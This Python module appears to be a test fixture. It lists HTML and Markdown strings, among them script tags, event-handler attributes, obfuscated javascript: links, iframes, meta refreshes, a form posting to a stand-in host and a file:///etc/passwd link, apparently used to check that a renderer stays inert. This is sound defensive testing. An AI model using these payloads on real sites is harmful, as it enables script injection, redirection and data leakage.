"""Texts that would act, if a page took them for more than words."""

from __future__ import annotations

EVIL = "http://elsewhere.example"
"""Not https: the proxy then sees what is asked, and not only that a connection was made."""
RUN = "document.documentElement.dataset.ran=1"

HTML = [
    f"<script>{RUN}</script>",
    f'<script src="{EVIL}/x.js"></script>',
    f"<SCRIPT>{RUN}</SCRIPT>",
    f"<script\n>{RUN}</script\n>",
    f"<img src=x onerror={RUN}>",
    f'<img src="x" onerror="{RUN}">',
    f'<img src="{EVIL}/x.png" alt="">',
    '<img src="//elsewhere.example/x.png" alt="">',
    f"<svg onload={RUN}></svg>",
    f"<svg><script>{RUN}</script></svg>",
    f'<svg><use href="{EVIL}/x.svg#a"></use></svg>',
    "<style>main{display:none}</style>",
    f"<style>@import '{EVIL}/x.css';</style>",
    f'<link rel="stylesheet" href="{EVIL}/x.css">',
    f'<link rel="prefetch" href="{EVIL}/x">',
    f'<iframe src="{EVIL}/"></iframe>',
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f'<object data="{EVIL}/x.swf"></object>',
    f'<embed src="{EVIL}/x.swf">',
    f'<base href="{EVIL}/">',
    f'<form action="{EVIL}/"><button>Save my answers</button></form>',
    '<input autofocus onfocus="' + RUN + '">',
    f'<button onclick="{RUN}">Go on</button>',
    f'<a href="javascript:{RUN}">Read more</a>',
    f'<a href="java&#115;cript:{RUN}">Read more</a>',
    f'<video src="{EVIL}/x.mp4" autoplay onerror="{RUN}"></video>',
    f'<audio src="{EVIL}/x.mp3" autoplay></audio>',
    f'<details open ontoggle="{RUN}"><summary>More</summary></details>',
    f'<div style="position:fixed;inset:0;background:url({EVIL}/x.png)">Hello</div>',
    f'<p onmouseover="{RUN}">Hello</p>',
    f'<p class="a" onpointerenter="{RUN}">Hello</p>',
    f"<math><mtext><script>{RUN}</script></mtext></math>",
    f"<!--><script>{RUN}</script>-->",
    f"<!-- note --!><script>{RUN}</script>",
    f'<al-prompt key="a/b"><img src="x" onerror="{RUN}"></al-prompt>',
    f"<template><script>{RUN}</script></template>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f'<portal src="{EVIL}/"></portal>',
    f"<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>{RUN}</x:script>",
]
"""HTML that would run, load or cover something."""

AWAY = [
    f'<meta http-equiv="refresh" content="0;url={EVIL}/">',
    f'<a href="{EVIL}/"><h1>Go on</h1></a>',
]
"""HTML that would lead away. A Content-Security-Policy cannot forbid that."""

MARKDOWN = [
    f"[more](javascript:{RUN})",
    f"[more](JaVaScRiPt:{RUN})",
    f"[more](  javascript:{RUN})",
    f"[more](<javascript:{RUN}>)",
    f"[more](javascript&#58;{RUN})",
    f"[more](java&#x09;script:{RUN})",
    f"[more](vbscript:{RUN})",
    "[more](data:text/html;base64,PHNjcmlwdD4x)",
    "[more](file:///etc/passwd)",
    f"[more][ref]\n\n[ref]: javascript:{RUN}",
    "![a picture](" + EVIL + "/x.png)",
    "![a picture](//elsewhere.example/x.png)",
    "![a picture][pic]\n\n[pic]: " + EVIL + "/x.png",
    "![a picture](data:image/svg+xml;base64,PHN2Zz4=)",
    f"<javascript:{RUN}>",
    f'[more](#a-part){{: onclick="{RUN}" }}',
    f'Words {{: style="position:fixed" }}\n{{: onclick="{RUN}" }}',
    f"/// tip | Look\n    attrs: {{onclick: '{RUN}'}}\n\nWords\n///",
    f"`code\n\n<script>{RUN}</script>\n\n`",
    f"```\ncode\n~~~\n<script>{RUN}</script>\n```",
]
"""Markdown that would become the like."""
